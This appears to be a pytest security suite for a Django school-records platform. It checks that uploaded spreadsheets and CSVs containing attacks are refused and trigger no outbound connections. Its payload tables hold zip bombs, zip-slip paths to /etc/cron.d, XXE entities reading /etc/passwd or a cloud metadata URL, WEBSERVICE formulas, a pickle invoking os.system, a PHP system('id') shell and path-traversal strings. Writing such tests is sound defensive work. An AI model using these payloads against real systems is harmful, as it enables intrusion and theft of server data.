"""Attacks 9, 10, 16 and 17: files that are not what they say, bombs, files that call out, paths out."""

from __future__ import annotations

import io
import socket
import zipfile
from itertools import cycle
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from tests.security.asked import is_turned_away
from tests.security.named import acting
from tests.web.data.desks import FORM, SCORES
from tests.web.matrix_asking import IMMEDIATE, sent
from tests.web.matrix_world import TOP, A

pytestmark = pytest.mark.django_db
MARKUP = "<script>alert(1)</script>"
OUT = "http://169.254.169.254/latest"
NAMES = {
    "up": "../../x.csv", "drive": "C:\\x.csv", "nul": "a\0b.csv", "lines": "a\r\nb.csv",
    "formula": "=1+1.csv", "markup": f"{MARKUP}.csv", "quotes": '"; x=".csv', "long": "x" * 300 + ".csv",
    "bare": "x", "hidden": ".htaccess",
}  # fmt: skip
CONTENTS = {
    "empty": b"", "zeros": b"\0" * 999, "page": b"<html><table><tr><td>1</table>", "cut": b"PK\x03\x04x",
    "rows": b"a,b\n" * 9, "markup": MARKUP.encode(),
}  # fmt: skip
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (0x7FFFFFFF).to_bytes(4, "big") * 2 + b"\x08\x06\0\0\0"
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b {}>]><worksheet>&b;</worksheet>'
REL = '<Relationships><Relationship Id="r" Type="x/{}" Target="{}" TargetMode="External"/></Relationships>'


def packed(members: dict[str, Any]) -> bytes:
    """Members as a zip."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return made.getvalue()


def book(**parts: Any) -> bytes:
    """A small workbook in which some parts are of the attacker."""
    import xlsxwriter

    made = io.BytesIO()
    with xlsxwriter.Workbook(made) as opened:
        opened.add_worksheet().write_row(0, 0, ["考号", "语文"])
    with zipfile.ZipFile(made) as package:
        members = {name: package.read(name) for name in package.namelist()}
    return packed(
        members | {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    )


SHEET1 = "xl__worksheets__sheet1_dot_xml"
RELS = "xl__worksheets___rels__sheet1_dot_xml_dot_rels"
KINDS = (
    "externalLinkPath",
    "image",
    "oleObject",
    "attachedTemplate",
    "queryTable",
    "connections",
    "hyperlink",
)
HOSTILE: dict[str, Any] = {
    "program": lambda: b"MZ" + b"\x90" * 500,
    "script": lambda: b"#!/bin/sh\nid\n",
    "php": lambda: b"<?php system('id'); ?>",
    "drawing": lambda: f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{MARKUP}</svg>'.encode(),
    "pickle": lambda: b"\x80\x04cposix\nsystem\nX\x02\0\0\0id\x85R.",
    "page and zip": lambda: b"<html>" + book(),
    "pdf and zip": lambda: b"%PDF-1.4\n" + book(),
    "huge picture": lambda: book(xl__media__image1_dot_png=PNG),
    "picture alone": lambda: PNG,
    "bomb": lambda: packed(
        {"[Content_Types].xml": "<Types/>", "xl/worksheets/sheet1.xml": b" " * 90_000_000}
    ),
    "many members": lambda: packed({f"xl/{n}.xml": "" for n in range(6_000)}),
    "zip in zip": lambda: packed({"a.zip": packed({"b.zip": packed({"c.csv": SCORES})})}),
    "slip": lambda: packed({"../../../etc/cron.d/x": "x", "xl/workbook.xml": "<workbook/>"}),
    "absolute": lambda: packed({"/etc/passwd": "x", "xl/workbook.xml": "<workbook/>"}),
    "macro": lambda: book(xl__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0"),
    "entity": lambda: book(**{SHEET1: DOCTYPE.format('"c"')}),
    "entity of a file": lambda: book(**{SHEET1: DOCTYPE.format('SYSTEM "file:///etc/passwd"')}),
    "entity of a page": lambda: book(**{SHEET1: DOCTYPE.format(f'SYSTEM "{OUT}"')}),
    "parameter entity": lambda: book(**{SHEET1: f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{OUT}"> %p;]><a/>'}),
    "laughs": lambda: book(**{SHEET1: DOCTYPE.format('"lol"><!ENTITY c "&b;&b;&b;"')}),
    "last cell": lambda: book(
        **{SHEET1: SHEET.format('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}
    ),
    "web query": lambda: book(xl__connections_dot_xml=f'<connections><x url="{OUT}"/></connections>'),
    "web function": lambda: book(
        **{SHEET1: SHEET.format(f'<row><c><f>WEBSERVICE("{OUT}")</f><v>1</v></c></row>')}
    ),
    "csv that calls": lambda: f'考号,姓名,语文\n1,"=WEBSERVICE(""{OUT}"")",80\n'.encode(),
    "csv that is an address": lambda: f"{OUT}\n".encode(),
    **{f"leads out: {kind}": lambda kind=kind: book(**{RELS: REL.format(kind, OUT)}) for kind in KINDS},
    **{f"shares: {kind}": lambda kind=kind: book(**{RELS: REL.format(kind, r"\\evil\x")}) for kind in KINDS},
}


@pytest.fixture
def lines(monkeypatch) -> list[Any]:
    """Whom the platform tried to call."""
    called: list[Any] = []

    def refused(*given: Any, **_named: Any) -> None:
        called.append(given)
        raise OSError("no line out")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)
    return called


@pytest.fixture
def bring(browser, django_capture_on_commit_callbacks):
    """A clerk sends a file; the answer, the page of the upload and its marked workbook."""

    def brought(content: bytes, *, name: str, table: str = "scores") -> list[Any]:
        client = browser("section_clerk", TOP)
        with override_settings(TASKS=IMMEDIATE), django_capture_on_commit_callbacks(execute=True):
            form = FORM | {"table": table, "file": SimpleUploadedFile(name, content)}
            answer = client.post("/data/upload/", form)
        place = answer.headers.get("Location", "/data/upload/")
        answer.body = answer.content
        return [answer, *(sent(client, "GET", f"{place}{part}") for part in ("", "marked/"))]

    return brought


@pytest.mark.parametrize(("name", "content"), [*zip(NAMES, cycle(CONTENTS)), *zip(cycle(NAMES), CONTENTS)])
def test_a_file_is_what_it_is_and_its_name_is_text(bring, name, content):
    seen = bring(CONTENTS[content], name=NAMES[name], table="students")
    assert {one.status_code for one in seen} <= {200, 302, 404, 409}
    assert [found for one in seen for found in acting(one.body.decode("utf-8", "replace"))] == []


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_is_refused_in_words_and_calls_nobody(bring, lines, kind):
    seen = bring(HOSTILE[kind](), name="成绩.csv" if kind.startswith("csv") else "成绩.xlsx")
    assert {one.status_code for one in seen} <= {200, 302, 404, 409}
    assert not any("root:x:" in one.body.decode("utf-8", "replace") for one in seen)
    assert lines == []


UP = ("..", "../manifest.json", "%2e%2e%2fmanifest.json", "..%5c..%5cx", "manifest.json", "zh.html", "a%00b")
UP += ("/etc/passwd", "....//x", "outcome/groups.parquet", "report/", "~root", "run.xhb.zip/../figures.json")
FOLDERS = ("/public/{public}/", "/results/{run}/file/", "/results/{run}/table/", "/data/template/")
FOLDERS += ("/data/{dataset}/export/", "/people/pupils/export/", "/people/schools.", "/people/census.")


@pytest.mark.parametrize("name", UP)
@pytest.mark.parametrize("folder", FOLDERS)
def test_no_other_file_can_be_had(world, browser, folder, name):
    things = world.sides[A].things | {"public": world.sides[TOP].things["public"]}
    answer = sent(browser("section_clerk", TOP), "GET", folder.format(**things) + name)
    assert is_turned_away(answer) or answer.status_code in (405, 301)
    assert "root:x:" not in answer.told


@pytest.mark.parametrize("number", ["9" * 30, "0", "99999999999999999999", "-1", "1e3", "１", "1;x"])
@pytest.mark.parametrize("path", ["people/pupils", "family/child", "approvals", "people/mirror"])
def test_a_number_that_is_nobodys_is_not_found(browser, path, number):
    assert is_turned_away(sent(browser("section_clerk", TOP), "GET", f"/{path}/{number}/"))
